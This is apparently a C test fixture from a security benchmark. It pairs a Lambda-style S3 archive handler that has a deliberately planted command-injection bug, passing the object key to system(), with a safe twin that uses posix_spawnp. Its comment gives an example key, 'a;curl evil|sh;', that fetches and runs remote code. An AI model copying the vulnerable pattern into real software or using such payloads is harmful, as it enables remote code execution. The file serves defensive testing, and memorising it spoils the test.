/* PLANTED BUG (command-injection, S3, in C): archive_handler logs each
 * upload through a shell command line built from the decoded object key,
 * so a key like `a;curl evil|sh;` runs commands. The clean twin,
 * archive_safe_handler, starts the program with an argument vector and no
 * shell. Found in process: the driver preloads lambkin's sink library and
 * the tripwire is first on PATH. */
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include <lambkin/handler.h>

#include "s3event.h"

int archive_handler(const lk_request_t *req, lk_response_t *res);
int archive_safe_handler(const lk_request_t *req, lk_response_t *res);

extern char **environ;

int archive_handler(const lk_request_t *req, lk_response_t *res) {
  char key[512], cmd[700];

  if (!s3_key(req->payload, key, sizeof(key)))
    return lk_fail(res, req, "BadEvent", "no S3 key");
  snprintf(cmd, sizeof(cmd), "echo archiving %s >/dev/null", key);
  if (system(cmd) == -1) /* the bug: event data in a shell command */
    return lk_fail(res, req, "ArchiveFailed", "cannot start the shell");
  return lk_respond(res, req, "{\"archived\":true}", 17);
}

int archive_safe_handler(const lk_request_t *req, lk_response_t *res) {
  char key[512];
  char *argv[] = {"echo", "archiving", key, NULL};
  pid_t pid;
  int st;

  if (!s3_key(req->payload, key, sizeof(key)))
    return lk_fail(res, req, "BadEvent", "no S3 key");
  if (posix_spawnp(&pid, "echo", NULL, NULL, argv, environ) != 0 ||
      waitpid(pid, &st, 0) < 0)
    return lk_fail(res, req, "ArchiveFailed", "cannot start echo");
  return lk_respond(res, req, "{\"archived\":true}", 17);
}
